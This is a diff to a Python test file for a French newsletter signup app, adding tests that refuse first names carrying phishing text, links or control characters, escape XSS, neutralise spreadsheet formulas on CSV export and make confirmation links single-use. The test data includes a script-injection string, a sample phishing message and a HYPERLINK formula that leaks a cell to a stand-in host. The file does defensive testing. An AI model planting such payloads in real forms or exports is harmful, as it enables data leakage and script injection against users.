@@ -12,12 +12,18 @@ import time
 from pathlib import Path
 from urllib.parse import urlsplit
 
+import pytest
 from sqlalchemy import update
 from sqlmodel import Session, col, select
 
 from campaign.models import MailingList, Membership, Subscriber, SubscriberStatus
 from campaign.web.subscribe import MIN_ANSWER_SECONDS
-from campaign.web.subscriptions import confirm_token
+from campaign.web.subscriptions import (
+    CONFIRM,
+    InvalidFirstName,
+    clean_first_name,
+    confirm_token,
+)
 
 XSS = '"><script>alert(1)</script>'
 
@@ -198,7 +204,10 @@ def test_an_invalid_address_shows_the_form_again_escaped(live, kit) -> None:
     assert answer.status_code == 400
     assert "n'est pas valable" in answer.text
     assert "<script>" not in answer.text and "&lt;script&gt;" in answer.text
-    thanks = _submit(live, "ok@example.org", XSS)
+    refused = _submit(live, "ok@example.org", XSS)  # not a first name: shown again, escaped
+    assert refused.status_code == 400 and "Ce prénom n'est pas accepté" in refused.text
+    assert "<script>" not in refused.text and "&lt;script&gt;" in refused.text
+    thanks = _submit(live, "robot@example.org", XSS, site_web="x")  # a robot's thank-you page
     assert "<script>" not in thanks.text and "&lt;script&gt;" in thanks.text
 
 
@@ -235,10 +244,13 @@ def test_confirmation_links_expire_and_forged_ones_are_not_found(live, kit) -> N
     assert kit.subscriber("late@example.org").status == SubscriberStatus.pending
 
 
-def test_a_first_name_typed_as_a_formula_is_exported_as_text(live, cli, workdir) -> None:
+def test_a_first_name_typed_as_a_formula_is_refused_or_exported_as_text(live, cli, workdir):
     planted = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
     answer = _submit(live, "mallory@example.org", planted)
-    assert answer.status_code == 200
+    assert answer.status_code == 400  # the form takes names only
+    # One that came another way (an old import, a typed list) is exported as text.
+    added = cli("subscribers", "add", "mallory@example.org", "--first-name", planted)
+    assert added.exit_code == 0, added.stderr
     assert _first_name(live, "mallory@example.org") == planted  # kept as typed
     result = cli("subscribers", "export", "abonnes.csv")
     assert result.exit_code == 0, result.stderr
@@ -246,3 +258,97 @@ def test_a_first_name_typed_as_a_formula_is_exported_as_text(live, cli, workdir)
         (row,) = csv.DictReader(handle, delimiter=";")
     assert row["email"] == "mallory@example.org"
     assert row["first_name"] == "'" + planted  # Excel shows it as text, never runs it
+
+
+PHISHING = "Léa, votre compte expire : http://banque-en-ligne.example/connexion"
+
+
+def test_a_first_name_that_is_not_one_is_refused_and_nothing_is_sent(make_live, kit) -> None:
+    # Anyone may type any address: the first name must not carry their text into our email.
+    live = make_live(lambda settings: setattr(settings.subscribe, "rate_limit", 20))
+    for name in (PHISHING, "A" * 5000, "Léa www.exemple.com", "Léa\x00\u202e", "lea@exemple.org"):
+        answer = _submit(live, "victime@example.org", name)
+        assert answer.status_code == 400, name
+        assert "Ce prénom n'est pas accepté" in answer.text
+        assert 'aria-describedby="prenom-erreur"' in answer.text
+        assert "Merci" not in answer.text
+    with Session(live.engine) as session:
+        assert session.exec(select(Subscriber)).all() == []
+    assert _outbox(live, 1, timeout=0.5) == []
+    # A name, though, with its accents, hyphens, apostrophe and initials, is taken.
+    answer = _submit(live, "victime@example.org", "  Marie-Thérèse d’Arc J.-P.  ")
+    assert answer.status_code == 200 and "Merci Marie-Thérèse d’Arc J.-P." in answer.text
+    assert kit.subscriber("victime@example.org").first_name == "Marie-Thérèse d’Arc J.-P."
+    (message,) = _outbox(live, 1)
+    assert "Bonjour Marie-Thérèse d’Arc J.-P.," in message.get_body(("plain",)).get_content()
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["exemple.com", "Léa http://x", "Léa/Paul", "<b>Léa</b>", "Léa 06 12", "Léa\u200b", "x" * 61],
+)
+def test_clean_first_name_refuses_what_is_not_a_name(name: str) -> None:
+    with pytest.raises(InvalidFirstName):
+        clean_first_name(name)
+
+
+def test_a_stored_name_that_is_not_one_is_left_out_of_the_confirmation_email(live, kit) -> None:
+    with Session(live.engine) as session:
+        session.add(
+            Subscriber(
+                email="importe@example.org",
+                first_name="Paul www.exemple.com",
+                status=SubscriberStatus.pending,
+            )
+        )
+        session.commit()
+    assert _submit(live, "importe@example.org").status_code == 200
+    (message,) = _outbox(live, 1)
+    text = message.get_body(("plain",)).get_content()
+    assert text.startswith("Bonjour,") and "exemple.com" not in text
+    assert "exemple.com" not in message.get_body(("html",)).get_content()
+
+
+def test_a_confirmation_link_acts_once_and_never_after_a_later_unsubscription(live, kit) -> None:
+    sent = kit.send(live)
+    unsubscribe_path = f"/u/{live.signer.sign('unsubscribe', sent.deliveries['Anne'])}"
+    live.post(unsubscribe_path)
+    _submit(live, "anne@example.org")  # she changes her mind: a confirmation link
+    (message,) = _outbox(live, 1)
+    path = _confirm_path(message)
+    assert "Inscription confirmée" in live.post(path).text
+    assert kit.subscriber("anne@example.org").status == SubscriberStatus.active
+    again = live.post(path)  # the same link a second time changes nothing more
+    assert again.status_code == 200 and "Ce lien a déjà servi" in again.text
+
+    live.post(unsubscribe_path)  # later, she leaves again
+    assert kit.subscriber("anne@example.org").status == SubscriberStatus.unsubscribed
+    logged = len(kit.consent("anne@example.org"))
+    page = live.get(path)  # whoever has the old email: no button any more
+    assert "Ce lien a déjà servi" in page.text and "Je confirme" not in page.text
+    answer = live.post(path)
+    assert answer.status_code == 200 and "Ce lien a déjà servi" in answer.text
+    assert "Inscription confirmée" not in answer.text
+    assert kit.subscriber("anne@example.org").status == SubscriberStatus.unsubscribed
+    assert len(kit.consent("anne@example.org")) == logged
+
+    # A link issued after that (a new request through the form) works, once.
+    with Session(live.engine) as session:
+        list_id = session.exec(
+            select(MailingList.id).where(MailingList.name == "Newsletter nationale")
+        ).one()
+    anne = kit.subscriber("anne@example.org")
+    fresh = f"/confirmation/{confirm_token(live.signer, anne.id, list_id, time.time())}"
+    assert "Inscription confirmée" in live.post(fresh).text
+    assert kit.subscriber("anne@example.org").status == SubscriberStatus.active
+
+
+def test_a_link_sent_before_links_were_single_use_still_confirms_once(live, kit) -> None:
+    _submit(live, "avant@example.org")
+    person = kit.subscriber("avant@example.org")
+    with Session(live.engine) as session:
+        list_id = session.exec(select(MailingList.id)).one()
+    older = live.signer.sign(CONFIRM, person.id, list_id, int(time.time() // 86400))
+    assert "Inscription confirmée" in live.post(f"/confirmation/{older}").text
+    assert kit.subscriber("avant@example.org").status == SubscriberStatus.active
+    assert "Ce lien a déjà servi" in live.post(f"/confirmation/{older}").text
